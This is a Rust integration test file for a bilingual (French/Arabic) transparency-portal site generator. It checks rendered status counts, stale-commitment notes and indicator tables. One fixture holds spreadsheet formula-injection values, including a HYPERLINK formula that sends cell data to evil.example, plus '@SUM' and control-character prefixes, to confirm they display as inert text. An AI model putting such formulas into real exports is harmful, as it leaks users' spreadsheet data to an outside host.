@@ -1,0 +1,249 @@
+//! What the view models of src/render/ put on the built pages, read back from the HTML a
+//! citizen gets, in French and in Arabic: the counts by status, the notes under a plan,
+//! a sheet's figures, its indicators and its activities, the group pages, the pager of
+//! the lists. Each test builds a fixture with the real binary (once per fixture and
+//! date, shared by the tests of this file).
+
+mod common;
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::{Mutex, OnceLock};
+
+fn manifest() -> &'static Path {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+}
+
+/// Builds the site at `root` as of `as_of` into `dir/public`.
+fn build_into(root: &Path, dir: &Path, as_of: &str) -> PathBuf {
+    let out = dir.join("public");
+    let result = Command::new(env!("CARGO_BIN_EXE_shafaf"))
+        .args(["build", "--quiet", "--root", root.to_str().unwrap(), "--out", out.to_str().unwrap(), "--as-of", as_of])
+        .output()
+        .expect("run shafaf");
+    assert!(result.status.success(), "{}", String::from_utf8_lossy(&result.stderr));
+    out
+}
+
+/// `fixture` (a folder of tests/fixtures, or "." for the portal's own content) built as
+/// of `as_of`, once for all the tests of this file.
+fn built(fixture: &str, as_of: &str) -> &'static Path {
+    static BUILT: OnceLock<Mutex<BTreeMap<(String, String), &'static Path>>> = OnceLock::new();
+    let mut map = BUILT.get_or_init(Default::default).lock().unwrap_or_else(|e| e.into_inner());
+    map.entry((fixture.to_string(), as_of.to_string()))
+        .or_insert_with(|| {
+            let root = if fixture == "." { manifest().to_path_buf() } else { manifest().join("tests/fixtures").join(fixture) };
+            // The folder lives as long as the test process.
+            let dir = tempfile::tempdir().unwrap().keep();
+            build_into(&root, &dir, as_of).leak()
+        })
+}
+
+/// A copy of the fixture `fixture`, changed by `change`, built as of `as_of`.
+fn built_changed(fixture: &str, as_of: &str, change: impl FnOnce(&Path)) -> (tempfile::TempDir, PathBuf) {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("site");
+    common::copy_tree(&manifest().join("tests/fixtures").join(fixture).join("content"), &root.join("content"));
+    change(&root);
+    let out = build_into(&root, dir.path(), as_of);
+    (dir, out)
+}
+
+fn page(out: &Path, path: &str) -> String {
+    fs::read_to_string(out.join(path).join("index.html")).unwrap_or_else(|e| panic!("{path}: {e}"))
+}
+
+/// The part of a page from the first `from` to the next `to` after it.
+fn between<'a>(html: &'a str, from: &str, to: &str) -> &'a str {
+    let start = html.find(from).unwrap_or_else(|| panic!("no {from}"));
+    let after = start + from.len();
+    let end = html[after..].find(to).map_or(html.len(), |e| after + e + to.len());
+    &html[start..end]
+}
+
+/// Every part of a page from a `from` to the next `to` after it.
+fn all_between<'a>(html: &'a str, from: &str, to: &str) -> Vec<&'a str> {
+    let mut found = Vec::new();
+    let mut rest = html;
+    while let Some(start) = rest.find(from) {
+        let after = start + from.len();
+        let end = rest[after..].find(to).map_or(rest.len(), |e| after + e + to.len());
+        found.push(&rest[start..end]);
+        rest = &rest[end..];
+    }
+    found
+}
+
+/// A list of counts by status as the page draws it: (CSS class, label, count).
+fn counts(list: &str) -> Vec<(String, String, String)> {
+    all_between(list, "<li>", "</li>")
+        .into_iter()
+        .map(|li| {
+            let class = between(li, "class=\"badge s-", "\"");
+            let class = &class["class=\"badge s-".len()..class.len() - 1];
+            let label = between(li, "\">", "</span>");
+            let label = &label[2..label.len() - "</span>".len()];
+            let count = between(li, "<bdi>", "</bdi>");
+            let count = &count["<bdi>".len()..count.len() - "</bdi>".len()];
+            (class.to_string(), label.to_string(), count.to_string())
+        })
+        .collect()
+}
+
+fn owned(list: &[(&str, &str, &str)]) -> Vec<(String, String, String)> {
+    list.iter().map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string())).collect()
+}
+
+/// The dashboard counts the commitments and the activities by status, only the statuses
+/// that have some, in the order of the statuses, with each status named in the page's
+/// language.
+#[test]
+fn the_dashboard_counts_commitments_and_activities_by_status() {
+    let out = built("feeds-site", "2025-06-15");
+    for (lang, names) in [
+        ("fr", ["Non démarré", "Non renseigné", "En cours", "Réalisé", "Annulé"]),
+        ("ar", ["لم ينطلق", "بدون تقرير", "في طور الإنجاز", "منجز", "ملغى"]),
+    ] {
+        let html = page(out, lang);
+        let overview = between(&html, "id=\"overall-h\"", "</section>");
+        let lists = all_between(overview, "<ul class=\"counts\">", "</ul>");
+        assert_eq!(lists.len(), 2, "{lang}: {overview}");
+        assert_eq!(counts(lists[0]), owned(&[("not-reported", names[1], "1"), ("in-progress", names[2], "2")]), "{lang}: commitments");
+        assert_eq!(
+            counts(lists[1]),
+            owned(&[
+                ("not-started", names[0], "1"),
+                ("not-reported", names[1], "1"),
+                ("in-progress", names[2], "2"),
+                ("completed", names[3], "1"),
+                ("cancelled", names[4], "1"),
+            ]),
+            "{lang}: activities"
+        );
+        // The plan's card counts its own commitments the same way.
+        let card = between(&html, "<li class=\"card\">", "</ul>");
+        assert_eq!(counts(card), owned(&[("not-reported", names[1], "1"), ("in-progress", names[2], "2")]), "{lang}: the plan's card");
+    }
+}
+
+/// A plan whose commitments all had a recent report says nothing about stale ones; a
+/// plan with some says how many.
+#[test]
+fn a_plan_card_notes_its_stale_commitments_only_when_it_has_some() {
+    let out = built("edge-site", "2025-06-15");
+    let html = page(out, "fr");
+    assert!(html.contains("<p class=\"stale\">Engagements sans rapport depuis plus de 6 mois : 1</p>"), "{html}");
+    let html = page(out, "ar");
+    assert!(html.contains("<p class=\"stale\">التزامات دون أي تقرير منذ أكثر من 6 أشهر: 1</p>"), "{html}");
+    // Without its one stale commitment, the plan has none to note.
+    let (_dir, out) = built_changed("edge-site", "2025-06-15", |root| {
+        fs::remove_file(root.join("content/plans/2024-2027/commitments/stale-work.yaml")).unwrap();
+    });
+    for lang in ["fr", "ar"] {
+        let html = page(&out, lang);
+        assert!(html.contains("<li class=\"card\">"), "{lang}: the plan's card");
+        assert!(!html.contains("class=\"stale\""), "{lang}: no stale commitment, no note: {html}");
+    }
+}
+
+/// The text of some HTML, tags removed and the few entities the pages use decoded.
+fn text(html: &str) -> String {
+    let mut out = String::new();
+    let mut in_tag = false;
+    for ch in html.chars() {
+        match ch {
+            '<' => in_tag = true,
+            '>' if in_tag => in_tag = false,
+            _ if !in_tag => out.push(ch),
+            _ => {}
+        }
+    }
+    out.replace("&#39;", "'").replace("&quot;", "\"").replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
+}
+
+/// The rows of the first table in `html`, each as the text of its cells.
+fn table_rows(html: &str) -> Vec<Vec<String>> {
+    let body = between(html, "<tbody>", "</tbody>");
+    all_between(body, "<tr>", "</tr>")
+        .into_iter()
+        .map(|tr| all_between(tr, "<t", "</t").into_iter().map(|cell| text(&format!("<{}", &cell[1..]))).collect())
+        .collect()
+}
+
+/// The terms and descriptions of the first `<dl>` in `html`.
+fn facts_list(html: &str) -> Vec<(String, String)> {
+    let dl = between(html, "<dl", "</dl>");
+    all_between(dl, "<dt>", "</dd>")
+        .into_iter()
+        .map(|pair| {
+            let (term, description) = pair.split_once("</dt>").unwrap();
+            (text(term), text(description))
+        })
+        .collect()
+}
+
+fn rows(list: &[&[&str]]) -> Vec<Vec<String>> {
+    list.iter().map(|row| row.iter().map(|c| c.to_string()).collect()).collect()
+}
+
+/// A sheet's indicators, tracking and impact apart, each with its unit, baseline, target
+/// (with its date when it has one) and values in the page's language, numbers and
+/// percentages as the language writes them, words as written; a chart when every value
+/// is a number.
+#[test]
+fn a_sheets_indicators_show_their_measures_in_the_pages_language() {
+    let out = built("valid-site", "2025-06-30");
+    for (lang, unit, count, percent, actual, forecast, june, chart) in [
+        ("fr", "Unité", "Nombre", "Pourcentage", "Réalisé", "Prévision", "juin 2025", "Graphique des valeurs de l'indicateur : "),
+        ("ar", "الوحدة", "عدد", "نسبة مئوية", "محقق", "توقع", "يونيو 2025", ""),
+    ] {
+        let html = page(out, &format!("{lang}/plans/2024-2027/commitments/open-data"));
+        let tracking = between(&html, "id=\"ind-tracking-h\"", "</section>\n</section>");
+        let impact = between(&html, "id=\"ind-impact-h\"", "</section>\n</section>");
+        assert_eq!(all_between(tracking, "<section class=\"indicator\"", "</section>").len(), 1, "{lang}");
+        assert!(tracking.contains("<h3 id=\"indicator-1-h\">"), "{lang}: the first indicator is the tracking one");
+        assert!(impact.contains("<h3 id=\"indicator-2-h\">"), "{lang}: the second is the impact one");
+        let baseline_target = |section: &str| facts_list(section).into_iter().map(|(_, d)| d).collect::<Vec<_>>();
+        assert_eq!(facts_list(tracking)[0], (unit.to_string(), count.to_string()), "{lang}");
+        assert_eq!(baseline_target(tracking), [count, "1200", "2000 (2027)"], "{lang}");
+        assert_eq!(baseline_target(impact), [percent, "40\u{202f}%", "80\u{202f}%"], "{lang}");
+        assert_eq!(
+            table_rows(tracking),
+            rows(&[&["2024", "1350", actual], &[june, "1520", actual], &["2026", "1800", forecast]]),
+            "{lang}"
+        );
+        assert_eq!(table_rows(impact), rows(&[&["2022", "65,44\u{202f}%", actual]]), "{lang}");
+        // Three numbers: a chart of three bars titled after the indicator.
+        let svg = between(tracking, "<figure><svg class=\"indicator-chart\"", "</svg></figure>");
+        assert_eq!(svg.matches("<rect ").count(), 3, "{lang}");
+        assert!(svg.contains("<title id=\"indicator-1-t\">"), "{lang}");
+        if !chart.is_empty() {
+            assert!(text(svg).contains(&format!("{chart}Nombre de jeux de données publiés")), "{lang}: {svg}");
+        }
+    }
+    // Measures written as words are shown as written, and an indicator with such a value
+    // has no chart, where its neighbour of numbers has one.
+    let out = built("edge-site", "2025-06-15");
+    for (lang, qualitative, actual, forecast, target) in
+        [("fr", "Qualitatif", "Réalisé", "Prévision", "Cible"), ("ar", "وصفي", "محقق", "توقع", "مستهدف")]
+    {
+        let html = page(out, &format!("{lang}/plans/2024-2027/commitments/formulas"));
+        let impact = between(&html, "id=\"ind-impact-h\"", "</section>\n</section>");
+        let tracking = between(&html, "id=\"ind-tracking-h\"", "</section>\n</section>");
+        assert_eq!(
+            facts_list(impact).into_iter().map(|(_, d)| d).collect::<Vec<_>>(),
+            [qualitative, "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Cliquez\")", "+1 rang (2026)"],
+            "{lang}"
+        );
+        assert_eq!(
+            table_rows(impact),
+            rows(&[&["2024", "-3 places", actual], &["2025", "@SUM(A1:A9)", forecast], &["2026", "\tcible", target], &["2027", "\rligne", target]]),
+            "{lang}"
+        );
+        assert!(!impact.contains("<svg"), "{lang}: no chart of words");
+        assert!(tracking.contains("<figure><svg class=\"indicator-chart\""), "{lang}: a chart of numbers");
+        assert_eq!(facts_list(tracking).into_iter().map(|(_, d)| d).collect::<Vec<_>>()[1..], ["-5\u{202f}%", "12,5\u{202f}% (2027)"], "{lang}");
+    }
+}
